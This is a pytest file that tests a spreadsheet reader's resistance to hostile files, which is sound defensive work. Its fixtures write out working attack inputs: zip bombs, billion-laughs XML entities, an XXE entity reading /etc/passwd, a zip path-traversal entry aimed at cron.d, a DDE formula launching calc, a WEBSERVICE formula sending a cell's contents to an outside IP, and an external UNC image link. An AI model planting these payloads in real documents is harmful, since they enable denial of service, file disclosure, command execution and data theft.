"""Hostile files: each is answered with its finding or read right, in little time and memory, without a pool.

Where a system cannot limit a process, the checks before parsing are all there is; so they are tested alone,
each file in a process that may not grow by more than a gibibyte.
"""

from __future__ import annotations

import io
import json
import struct
import subprocess
import sys
import zipfile
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from pipeline.pool import SECONDS_A_FILE
from pipeline.reader import Book, read_book
from tests.spoilt import (
    END,
    EOF,
    HUGE,
    begin,
    brt,
    label,
    listing,
    number,
    ole,
    parts_of,
    reach,
    record,
    wide,
    with_parts,
    xls,
    xlsb_sheet,
    zipped,
)
from tests.tables import MAY, SCHOOL, replaced, row, workbook

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="measured by what Linux tells of a process")

ROOM = 1024
"""Mebibytes by which a process may grow at all; what its memory really grows by stays below `MOST`."""
MOST = 400
FORM = workbook(SCHOOL, "jiaowu", MAY, {"commitment": row("commitment")})
PARTS = parts_of(FORM)
TITLE, OTHER = SCHOOL.ledgers["commitment"].title, SCHOOL.ledgers["training"].title
BOOK, RELS, SHEET = "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet2.xml"
TEXTS, STYLES = "xl/sharedStrings.xml", "xl/styles.xml"
MEBIBYTE = 1024 * 1024

ENTITIES = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
LAUGH = f'<!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">{ENTITIES}]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]>'

Cases = dict[str, "tuple[Callable[[], bytes], object]"]
READ = "read"
"""The answer for a file that is read as if nothing had been done to it."""
DAMAGED, TOO_LARGE = [("file-damaged", "")], [("file-too-large", "")]
ARCHIVE, ENCRYPTED = [("file-archive", "")], [("file-encrypted", "")]
UNKNOWN = [("identity-unknown", "")]
WEB_PAGE = [("file-dressed", ""), *UNKNOWN]


def part(name: str, content: bytes | str | None) -> bytes:
    """Return the form with another content of one part, or without it."""
    return with_parts(FORM, {name: content.encode() if isinstance(content, str) else content})


def swapped(name: str, old: str, new: str) -> bytes:
    """Return the form with `old`, which stands in the part, replaced once."""
    text = PARTS[name].decode()
    assert old in text
    return part(name, text.replace(old, new, 1))


def headed(name: str, doctype: str) -> bytes:
    """Return the form with a document type in front of the part."""
    text = PARTS[name].decode()
    end = text.index("?>") + 2
    return part(name, text[:end] + doctype + text[end:])


def typed(cell: str, content: str) -> bytes:
    """Return the form with another XML of a cell of the first row that is filled in."""
    text = PARTS[SHEET].decode()
    start = text.index(f'<c r="{cell}"')
    end = text.index("/>" if text.find("/>", start) < text.find(">", start) else "</c>", start)
    return part(SHEET, text[:start] + content + text[text.index(">", end) + 1 :])


def besides(rows: str) -> bytes:
    """Return the form with `rows` after those of the first ledger."""
    return swapped(SHEET, "</sheetData>", f"{rows}</sheetData>")


def holed(entry: Callable[[bytes], bytes]) -> bytes:
    """Return the form, not packed, with its bytes edited."""
    return entry(zipped(PARTS.items(), zipfile.ZIP_STORED))


def unrelated(**targets: str) -> bytes:
    """Return the form whose relationships lead elsewhere, by their ids."""
    text = PARTS[RELS].decode()
    for name, target in targets.items():
        start = text.index(f'Id="{name}"')
        first = text.index('Target="', start) + len('Target="')
        text = text[:first] + target + text[text.index('"', first) :]
    return part(RELS, text)


def ods(rows: str, name: str = TITLE) -> bytes:
    """Return an ods of one table whose rows are `rows`."""
    spaces = "".join(
        f' xmlns:{k}="urn:oasis:names:tc:opendocument:xmlns:{k}:1.0"' for k in ("office", "table", "text")
    )
    content = (
        f"<office:document-content{spaces}><office:body><office:spreadsheet>"
        f'<table:table table:name="{name}">{rows}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    mime = b"application/vnd.oasis.opendocument.spreadsheet"
    return zipped(
        [("mimetype", mime), ("META-INF/manifest.xml", manifest.encode()), ("content.xml", content.encode())]
    )


def cells(repeated: str = "", kind: str = ' office:value-type="string"') -> str:
    """Return a cell of an ods, which stands for so many."""
    times = f' table:number-columns-repeated="{repeated}"' if repeated else ""
    return f"<table:table-cell{kind}{times}><text:p>甲</text:p></table:table-cell>"


def lines(repeated: str, inner: str) -> str:
    """Return a row of an ods, which stands for so many."""
    return f'<table:table-row table:number-rows-repeated="{repeated}">{inner}</table:table-row>'


def xlsb(sheet: bytes, book: bytes = b"") -> bytes:
    """Return an xlsb of one sheet."""
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    rels = f'<Relationships xmlns="{space}"><Relationship Id="rId1" Target="worksheets/sheet1.bin"/></Relationships>'
    bundle = brt(156, struct.pack("<II", 0, 1) + wide("rId1") + wide(TITLE))
    return zipped(
        [
            ("xl/workbook.bin", book or brt(131) + brt(143) + bundle + brt(144) + brt(132)),
            ("xl/_rels/workbook.bin.rels", rels.encode()),
            ("xl/worksheets/sheet1.bin", sheet),
        ]
    )


LONG = xls(*(label(place, 0, "甲" * 99) for place in range(99)))
GOOD = xls(reach(2, 2), label(0, 0, "甲"), label(1, 1, "乙"))

ZIPS: Cases = {
    "a part of three gigabytes": (lambda: swollen(3 * 1024), TOO_LARGE),
    "many parts that are large together": (
        lambda: with_parts(FORM, {f"xl/media/{n}.png": bytes(30 * MEBIBYTE) for n in range(8)}), TOO_LARGE,
    ),
    "three thousand parts": (lambda: with_parts(FORM, {f"xl/media/{n}": b"" for n in range(3000)}), TOO_LARGE),
    "a million parts that are not there": (lambda: listing(1_000_000), TOO_LARGE),
    "a zip in a zip in a zip": (lambda: zipped([("a.zip", zipped([("b.zip", zipped([("x.xlsx", FORM)]))]))]), ARCHIVE),
    "a bomb beside the sheets, zipped once more": (
        lambda: with_parts(FORM, {"xl/x.zip": zipped([("x", bytes(150 * MEBIBYTE))])}), READ,
    ),
    "two parts of one name": (lambda: zipped([*PARTS.items(), (SHEET, b"<worksheet/>")]), DAMAGED),
    "two parts of one name but for capitals": (lambda: part(SHEET.replace("sheet2", "Sheet2"), "<x/>"), DAMAGED),
    "parts called in capitals": (
        lambda: zipped((n.replace("worksheets/s", "Worksheets/S"), c) for n, c in PARTS.items()), READ,
    ),
    "a bit that flipped": (lambda: holed(lambda d: d.replace("常规落地".encode(), "常视落地".encode())), DAMAGED),
    "a wrong checksum in the list": (lambda: holed(lambda d: d[: (at := d.rfind(b"PK\x01\x02") + 16)] + b"\0\0\0\0" + d[at + 4 :]), DAMAGED),
    "another kind of workbook in the same zip": (lambda: part("content.xml", "<x/>"), READ),
    "a way of packing that nobody knows": (lambda: holed(lambda d: d.replace(b"PK\x01\x02\x14\x03\x14\0\0\0\0\0", b"PK\x01\x02\x14\x03\x14\0\0\0\x63\0", 1)), DAMAGED),
    "names that lead out of the zip": (lambda: part("../../../etc/cron.d/x", "* * * * *"), READ),
}  # fmt: skip

XML: Cases = {
    **{
        f"{what} in {name}": (partial(headed, name, doctype), answer)
        for what, doctype in (("laughs", LAUGH), ("a file from outside", OUTSIDE))
        for name, answer in ((BOOK, DAMAGED), (RELS, DAMAGED), (SHEET, READ), (STYLES, READ), (TEXTS, READ))
    },
    **{f"a document type in {name}": (partial(headed, name, "<!DOCTYPE x>"), READ) for name in (BOOK, RELS, SHEET, STYLES, TEXTS)},
    "laughs that are told in a cell": (lambda: laughing(SHEET, "常规落地"), DAMAGED),
    "laughs that are told in a shared text": (lambda: laughing(TEXTS, "报送截止"), DAMAGED),
    "laughs beside an error cell": (lambda: laughing(SHEET, "常规落地", '<c r="Z9" t="e"><v>#REF!</v></c>'), DAMAGED),
    "two bytes a letter": (lambda: part(SHEET, PARTS[SHEET].decode().replace("UTF-8", "UTF-16").encode("utf-16")), DAMAGED),
    "another encoding": (lambda: part(SHEET, PARTS[SHEET].decode().replace("UTF-8", "GBK").encode("gbk")), DAMAGED),
    "a sheet that is cut": (lambda: part(SHEET, PARTS[SHEET][:20_000]), DAMAGED),
    "a sheet that is none": (lambda: part(SHEET, "<worksheet/>"), DAMAGED),
    "a sheet of nothing": (lambda: part(SHEET, b""), DAMAGED),
    "a sheet that is not there": (lambda: part(SHEET, None), DAMAGED),
    "no shared texts": (lambda: part(TEXTS, None), DAMAGED),
    "no relationships": (lambda: part(RELS, None), DAMAGED),
    "sheets that lead to the workbook": (lambda: unrelated(rId2="workbook.xml"), DAMAGED),
    "sheets that lead in a circle": (lambda: unrelated(rId2="_rels/workbook.xml.rels"), DAMAGED),
    "a sheet somewhere in the network": (lambda: unrelated(rId2="http://198.51.100.1/sheet2.xml"), DAMAGED),
    "a sheet outside": (lambda: unrelated(rId2="../../../etc/passwd"), DAMAGED),
    "two sheets of one content": (lambda: unrelated(rId6="worksheets/sheet2.xml"), READ),
    "two sheets of one name": (lambda: swapped(BOOK, OTHER, TITLE), DAMAGED),
    "a hundred thousand levels": (lambda: besides("<x>" * 100_000 + "</x>" * 100_000), READ),
    "a hundred thousand levels beside an error": (
        lambda: besides('<row r="99"><c r="Z99" t="e"/></row>' + "<x>" * 100_000 + "</x>" * 100_000), READ,
    ),
    "seven hundred thousand levels": (lambda: typed("X6", '<c r="X6" t="e">' + "<x>" * 700_000 + "</x>" * 700_000 + "</c>"), DAMAGED),
    "ten million letters": (lambda: swapped(SHEET, "常规落地", "长" * 10_000_000), TOO_LARGE),
    "as many letters as Excel takes": (lambda: swapped(SHEET, "常规落地", "常规落地" + "。" * 32_000), READ),
    "a million shared texts": (lambda: swapped(TEXTS, "</sst>", "<si><t>甲</t></si>" * 1_000_000 + "</sst>"), TOO_LARGE),
    "four thousand million shared texts, as it says": (lambda: swapped(TEXTS, "uniqueCount=", 'uniqueCount="4294967295" x='), TOO_LARGE),
    "as many, oddly spaced": (lambda: swapped(TEXTS, "uniqueCount=", "uniqueCount = '4294967295' x="), TOO_LARGE),
    "as many, each digit by its number": (lambda: swapped(TEXTS, "uniqueCount=", 'uniqueCount="&#52;294967295" x='), READ),
    "errors beside the rows": (lambda: besides('<c t="e"/>' * 1_000_000), READ),
    "a million marks of nothing": (lambda: besides('<x a="1"/>' * 1_000_000), READ),
    "three hundred thousand struck fonts": (lambda: swapped(STYLES, "</fonts>", "<font><strike/></font>" * 300_000 + "</fonts>"), READ),
    "a comment of fifty megabytes": (lambda: besides(f"<!--{'x' * 50_000_000}-->"), READ),
    "a name of thirty megabytes": (lambda: besides(f'<row r="99" {"x" * 30_000_000}="1"/>'), READ),
}  # fmt: skip


def far(place: str) -> bytes:
    """Return the form with one more cell, at that place."""
    return besides(f'<row><c r="{place}"><v>1</v></c></row>')


CELLS: Cases = {
    **{f"a cell at {place}": (partial(far, place), answer) for place, answer in {
        "XFD1048576": TOO_LARGE, "xfd1048576": TOO_LARGE, "A99999999999": TOO_LARGE, "ZZZZZZZ9": TOO_LARGE,
        "A4294967295": TOO_LARGE, "A0": DAMAGED, "A-5": DAMAGED, "5": DAMAGED, "": DAMAGED, "$A$9": DAMAGED,
        "&#88;FD1048576": TOO_LARGE, "Ａ９": DAMAGED,
    }.items()},
    "a cell far off, oddly spaced": (lambda: besides('<row><c  r = "XFD1048576" ><v>1</v></c></row>'), TOO_LARGE),
    "a cell far off, in other quotes": (lambda: besides("<row><c r='XFD1048576'><v>1</v></c></row>"), TOO_LARGE),
    "a cell far off behind another mark": (lambda: besides('<row><c x=">" r="XFD1048576"><v>1</v></c></row>'), TOO_LARGE),
    "a cell in two places": (lambda: besides('<row><c r="A9" r="XFD1048576"><v>1</v></c></row>'), DAMAGED),
    "a cell that says no place in a row far off": (lambda: besides('<row r="4000000000"><c><v>1</v></c></row>'), TOO_LARGE),
    "a row that goes back": (lambda: besides('<row r="3"><c r="A3"/></row><row r="2"/>'), READ),
    "a row before the first": (lambda: besides('<row r="-5"/>'), DAMAGED),
    "cells that go back": (lambda: besides('<row r="60"><c r="C60"/><c r="A60"/></row>'), READ),
    "a million empty rows": (lambda: besides("".join(f'<row r="{n}"/>' for n in range(99, 1_000_099))), READ),
    "a million rows of ghosts": (lambda: besides('<row r="1048576"><c r="XFD1048576" s="1"></c></row>'), READ),
    "half a million numbers": (lambda: besides(f"<row>{'<c><v>1</v></c>' * 500_000}</row>"), TOO_LARGE),
    "a reach that is a lie": (lambda: swapped(SHEET, '<dimension ref="A1:', '<dimension ref="A1:XFD1048576" x="'), READ),
    "a reach that goes back": (lambda: swapped(SHEET, '<dimension ref="A1:', '<dimension ref="ZZ9:A1" x="'), READ),
    "a reach that is none": (lambda: swapped(SHEET, '<dimension ref="A1:', '<dimension ref="nowhere" x="'), DAMAGED),
    "a style that is not there": (lambda: typed("L6", '<c r="L6" s="4294967295" t="inlineStr"><is><t>常规落地</t></is></c>'), READ),
    "a style below the first": (lambda: typed("L6", '<c r="L6" s="-1" t="inlineStr"><is><t>常规落地</t></is></c>'), READ),
    "a shared text that is not there": (lambda: typed("L6", '<c r="L6" t="s"><v>99999</v></c>'), DAMAGED),
    "a shared text below the first": (lambda: typed("L6", '<c r="L6" t="s"><v>-1</v></c>'), DAMAGED),
    "a shared text between two": (lambda: typed("L6", '<c r="L6" t="s"><v>1.5</v></c>'), DAMAGED),
    "a kind of cell that is none": (lambda: typed("L6", '<c r="L6" t="zzz"><v>1</v></c>'), DAMAGED),
    "a rich text in the cell": (lambda: typed("L6", '<c r="L6" t="inlineStr"><is><r><rPr><b/></rPr><t>常规</t></r><r><t>落地</t></r></is></c>'), READ),
    "a rich text with its reading": (
        lambda: typed("L6", '<c r="L6" t="inlineStr"><is><r><t>常规落地</t></r><rPh sb="0" eb="1"><t>chang</t></rPh></is></c>'), READ,
    ),
    "a formula's text": (lambda: typed("L6", '<c r="L6" t="str"><f>"常规"&amp;"落地"</f><v>常规落地</v></c>'), READ),
    "an error cell": (lambda: typed("L6", '<c r="L6" t="e"><v>#REF!</v></c>'), [("cell-error", "L6")]),
    "an error cell, oddly spaced": (lambda: typed("L6", "<c r='L6' t = 'e' ><v>#REF!</v></c>"), [("cell-error", "L6")]),
    "an error that is none": (lambda: typed("L6", '<c r="L6" t="e"><v>#WHY?</v></c>'), DAMAGED),
    "a formula never worked out": (lambda: typed("L6", '<c r="L6"><f>A1</f></c>'), [("formula-no-value", "L6")]),
    "a command for another program": (
        lambda: typed("X6", '<c r="X6" t="str"><f>cmd|\' /C calc\'!A0</f><v>备注</v></c>'), ("note", "备注"),
    ),
    "a call to the network": (
        lambda: typed("X6", '<c r="X6" t="str"><f>WEBSERVICE("http://198.51.100.1/"&amp;A1)</f><v>备注</v></c>'), ("note", "备注"),
    ),
    "a picture to be fetched": (lambda: with_parts(FORM, {
        "xl/worksheets/_rels/sheet2.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="\\\\198.51.100.1\\share\\x.png" TargetMode="External"/></Relationships>'}), READ),
    "days counted from 1904": (
        lambda: with_parts(FORM, {
            BOOK: PARTS[BOOK].replace(b"<workbookPr ", b'<workbookPr date1904="1" '), SHEET: PARTS[SHEET].replace(b"42551", b"41089"),
        }),
        READ,
    ),
    "the strict dialect": (lambda: replaced(FORM, {
        "http://schemas.openxmlformats.org/spreadsheetml/2006/main": "http://purl.oclc.org/ooxml/spreadsheetml/main",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships": "http://purl.oclc.org/ooxml/officeDocument/relationships",
    }), READ),
    "marks with a prefix": (lambda: part(SHEET, prefixed(PARTS[SHEET].decode())), READ),
    "no sheets": (lambda: part(BOOK, sheetless(PARTS[BOOK].decode())), UNKNOWN),
    "a sheet's odd name": (lambda: swapped(BOOK, OTHER, "]a:b*c?/\\&#10;&lt;&#x202E;" + "长" * 5000), READ),
    "a sheet without a name": (lambda: swapped(BOOK, f'name="{OTHER}"', 'name=""'), READ),
    "a sheet in a state that is none": (lambda: swapped(BOOK, f'name="{OTHER}"', f'name="{OTHER}" state="gone"'), DAMAGED),
}  # fmt: skip

OTHERS: Cases = {
    "ods: a row for a million": (lambda: ods(lines("1048576", cells("16384"))), TOO_LARGE),
    "ods: a row for a million, with no kind": (lambda: ods(lines("1048576", cells("16384", ' office:value="1"'))), TOO_LARGE),
    "ods: a million blank rows": (lambda: ods(lines("1", cells()) + lines("1048575", "<table:table-cell/>")), UNKNOWN),
    "ods: rows for more than there can be": (lambda: ods(lines("1", cells()) + lines(str(2**64), cells())), TOO_LARGE),
    "ods: rows for less than none": (lambda: ods(lines("-7", cells())), DAMAGED),
    "ods: rows for no number": (lambda: ods(lines("many", cells())), DAMAGED),
    "ods: a table in a table": (lambda: ods(
        lines("1048576", cells("99")) + f'<table:table table:name="x">{lines("1", cells())}</table:table>' + lines("1", cells())
    ), TOO_LARGE),
    "ods: a table in a cell": (lambda: ods(
        lines("1", f'<table:table-cell><table:table table:name="x">{lines("1048576", cells("99"))}</table:table></table:table-cell>')
    ), TOO_LARGE),
    "ods: groups in groups": (lambda: ods("<table:table-row-group>" * 9999 + lines("1", cells()) + "</table:table-row-group>" * 9999), UNKNOWN),
    "ods: two tables of one name": (lambda: ods(
        lines("1048576", cells("99")) + f'</table:table><table:table table:name="{TITLE}">' + lines("1", cells())
    ), TOO_LARGE),
    "xls: as it should be": (lambda: ole(GOOD), UNKNOWN),
    "xls: a kilobyte that asks for much": (lambda: ole(GOOD, tables=HUGE, directories=HUGE, mores=HUGE)[:1024], DAMAGED),
    "xls: tables without end": (lambda: ole(GOOD, tables=HUGE), UNKNOWN),
    "xls: small sectors without end": (lambda: ole(GOOD, smalls=HUGE, small=2), UNKNOWN),
    "xls: a directory in a circle": (lambda: ole(GOOD, next_1=1), UNKNOWN),
    "xls: a workbook in a circle": (lambda: ole(LONG, next_5=2, size=HUGE), DAMAGED),
    "xls: tables in a circle": (lambda: ole(GOOD, more=0, mores=HUGE), DAMAGED),
    "xls: a sector that is not there": (lambda: ole(LONG, next_2=HUGE), DAMAGED),
    "xls: a workbook that ends too soon": (lambda: ole(LONG, next_2=END), DAMAGED),
    "xls: cut in the middle of a sector": (lambda: ole(GOOD)[:1400], DAMAGED),
    "xls: a reach of everything": (lambda: ole(xls(reach(0xFFFFFFF0, 0xFFFF), label(0, 0, "甲"))), TOO_LARGE),
    "xls: many reaches": (lambda: ole(xls(reach(65_536, 256), reach(1, 1), label(0, 0, "甲"))), TOO_LARGE),
    "xls: a reach that goes back": (lambda: ole(xls(reach(5, 5, top=9), label(0, 0, "甲"))), DAMAGED),
    "xls: cells far apart": (lambda: ole(xls(label(0, 0, "甲"), label(65_535, 255, "乙"))), TOO_LARGE),
    "xls: a sheet that does not begin": (lambda: ole(xls(reach(1, 1), label(65_535, 255, "乙")).replace(begin(16), b"")), TOO_LARGE),
    "xls: a sheet beyond the end": (lambda: ole(xls(label(0, 0, "甲"), start=HUGE)), DAMAGED),
    "xls: a sheet that is the workbook": (lambda: ole(xls(label(0, 0, "甲"), start=0)), UNKNOWN),
    "xls: a record longer than the file": (lambda: ole(xls(label(0, 0, "甲"))[: -len(EOF)] + struct.pack("<HH", 0x203, 0xFFFF)), DAMAGED),
    "xls: a record of nothing": (lambda: ole(xls(record(0x204), label(0, 0, "甲"))), DAMAGED),
    "xls: texts without end": (
        lambda: ole(xls(label(0, 0, "甲"), also=record(0xFC, struct.pack("<II", HUGE, HUGE) + b"\x01\0\0a"))), UNKNOWN,
    ),
    "xls: a text that goes on nowhere": (lambda: ole(xls(record(0x204, struct.pack("<HHHHB", 0, 0, 0, 0xFFFF, 1) + b"a\0"))), UNKNOWN),
    "xls: a language that is none": (lambda: ole(xls(label(0, 0, "甲"), also=record(0x42, b"\xff\xff"))), DAMAGED),
    "xls: of before 1997": (lambda: ole(GOOD).replace("Workbook".encode("utf-16-le"), "Book\0\0\0\0".encode("utf-16-le")), [("file-not-workbook", "")]),
    "xls: a chart's figures": (lambda: ole(xls(label(0, 0, "甲"), begin(32) + number(0, 0, 5.0) + EOF, reach(1, 1))), UNKNOWN),
    "xls: a form behind it": (lambda: ole(xls()) + FORM, UNKNOWN),
    "xlsb: a number without end": (lambda: xlsb(b"\x91\x01\x00" + b"\xff" * 40), DAMAGED),
    "xlsb: a record of a quarter gigabyte": (lambda: xlsb(brt(129) + b"\x94\x01\xff\xff\xff\x7f"), DAMAGED),
    "xlsb: a cell far off": (lambda: xlsb(xlsb_sheet([["甲"]]).replace(struct.pack("<II", 0, 0), struct.pack("<II", HUGE, 0))), TOO_LARGE),
    "xlsb: a text longer than the file": (lambda: xlsb(xlsb_sheet([["甲"]]).replace(wide("甲"), struct.pack("<I", HUGE))), DAMAGED),
    "xlsb: a sheet of nothing": (lambda: xlsb(b""), DAMAGED),
    "xlsb: a workbook of nothing": (lambda: xlsb(xlsb_sheet([["甲"]]), brt(131)), DAMAGED),
    "xlsb: fifty megabytes and more": (lambda: xlsb(bytes(60 * MEBIBYTE)), TOO_LARGE),
}  # fmt: skip

DRESSED: Cases = {
    "html: as it should be": (lambda: page("<tr><td>甲<td>乙"), WEB_PAGE),
    "html: half a million marks": (lambda: page("<tr><td>甲" * 250_000), TOO_LARGE),
    "html: cells that are as wide as can be": (lambda: page("<tr>" + "<td colspan=1000>甲" * 100_000), TOO_LARGE),
    "html: cells that are wider than can be": (lambda: page("<tr><td colspan=99999999999 rowspan=99999999999>甲"), WEB_PAGE),
    "html: many wide and high cells": (lambda: page(("<tr>" + "<td colspan=1000 rowspan=60000>甲" * 60) * 900), TOO_LARGE),
    "html: tables in tables": (lambda: page("<tr><td><table>" * 30 + "<tr><td>甲" * 30_000), DAMAGED),
    "html: tags in tags": (lambda: page("<tr><td>" + "<b>" * 100_000), DAMAGED),
    "html: laughs": (lambda: LAUGH.replace("!DOCTYPE x", "!DOCTYPE html").encode() + page("<tr><td>&j;<td>乙"), WEB_PAGE),
    "html: a letter that is none": (lambda: page("<tr><td>&#xD800;&#0;&#x110000;<td>乙"), WEB_PAGE),
    "html: a language that is none": (lambda: b"<meta charset=zlib_codec>" + page("<tr><td>x<td>y"), WEB_PAGE),
    "html: eleven megabytes": (lambda: page(" " * 11_000_000), TOO_LARGE),
    "text: one row wide, the others many": (lambda: b"1\t2\n" * 900_000 + b"\t" * 900_000, TOO_LARGE),
    "text: two million rows": (lambda: b"1\t2\n" * 2_000_000, TOO_LARGE),
    "text: a quotation without end": (lambda: b'1\t"' + b"2\n" * 900_000, [("file-not-workbook", "")]),
    "text: blanks without end": (lambda: b" " * 9_000_000, [("file-not-workbook", "")]),
}  # fmt: skip

CASES = {**ZIPS, **XML, **CELLS, **OTHERS, **DRESSED}


def page(rows: str) -> bytes:
    """Return a web page with one table."""
    return f"<html><body><table>{rows}</table></body></html>".encode()


def swollen(mebibytes: int) -> bytes:
    """Return the form with a part of so many mebibytes of nothing, packed as it is made."""
    out = io.BytesIO(FORM)
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/x.xml", "w", force_zip64=True) as part_,
    ):
        for _ in range(mebibytes):
            part_.write(bytes(MEBIBYTE))
    return out.getvalue()


def laughing(name: str, word: str, also: str = "") -> bytes:
    """Return the form with entities declared in a part, and one used in the place of `word`."""
    text = (
        PARTS[name].decode().replace(word, "&j;", 1).replace("</sheetData>", f"<row>{also}</row></sheetData>")
    )
    end = text.index("?>") + 2
    return part(name, text[:end] + LAUGH + text[end:])


def prefixed(xml: str) -> str:
    """Return a sheet's XML with a prefix before each name."""
    end = xml.index("?>") + 2
    body = xml[end:].replace("<", "<x:").replace("<x:/", "</x:").replace(" xmlns=", " xmlns:x=")
    return xml[:end] + body


def sheetless(xml: str) -> str:
    """Return a workbook's XML without its sheets."""
    return xml[: xml.index("<sheets>") + 8] + xml[xml.index("</sheets>") :]


@pytest.fixture(scope="module")
def answers(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, Any]:
    """Return what became of each hostile file, read in processes that may not grow, and of the form itself."""
    folder = tmp_path_factory.mktemp("hostile")
    numbered = {f"{place:03}": name for place, name in enumerate(CASES)}
    (folder / READ).write_bytes(FORM)
    for place, name in numbered.items():
        (folder / place).write_bytes(CASES[name][0]())
    command = [sys.executable, "-m", "tests.limited", str(folder), str(ROOM)]
    home = Path(__file__).parents[1]
    said = subprocess.run(command, cwd=home, capture_output=True, text=True, encoding="utf-8", check=True)
    found = [json.loads(line) for line in said.stdout.splitlines()]
    return {numbered.get(each["file"], READ): each for each in found}


@pytest.mark.parametrize("name", CASES)
def test_a_hostile_file_is_answered(name: str, answers: Mapping[str, Any]) -> None:
    """It is refused by its own code, or read as if nothing had been done; never an exception, never a death."""
    wanted, found, plain = CASES[name][1], answers[name], answers[READ]
    assert "raised" not in found, found
    assert "died" not in found, found
    if wanted == READ:
        assert found["rows"] == [{**row, **goal_of(found)} for row in plain["rows"]]
        assert found["readable"]
    elif isinstance(wanted, tuple):
        assert found["rows"] == [{**row, wanted[0]: wanted[1]} for row in plain["rows"]]
    else:
        assert [tuple(each) for each in found["codes"]] == wanted


def goal_of(found: Mapping[str, Any]) -> Mapping[str, Any]:
    """Return the goal as it was read where it only was made longer."""
    return {
        r: row[r] for row in found["rows"] for r in row if r == "goal" and row[r].startswith("常规落地。")
    }


def test_the_figures_of_a_chart_are_no_cells() -> None:
    """A chart inside an xls's sheet keeps its figures as records of cells; the sheet's own cells stay."""
    chart = begin(32) + number(0, 0, 5.0) + label(1, 0, "图") + EOF
    book = read_book("表.xls", ole(xls(label(0, 0, "甲"), chart, label(2, 0, "乙"))))
    assert isinstance(book, Book)
    assert [list(row) for row in book.sheets[0].rows] == [["甲"], [""], ["乙"]]


@pytest.mark.parametrize("name", CASES)
def test_a_hostile_file_costs_little(name: str, answers: Mapping[str, Any]) -> None:
    """Half of its seconds and most of its memory are left."""
    found = answers[name]
    assert found["seconds"] < SECONDS_A_FILE / 2
    assert found["grown"] < MOST
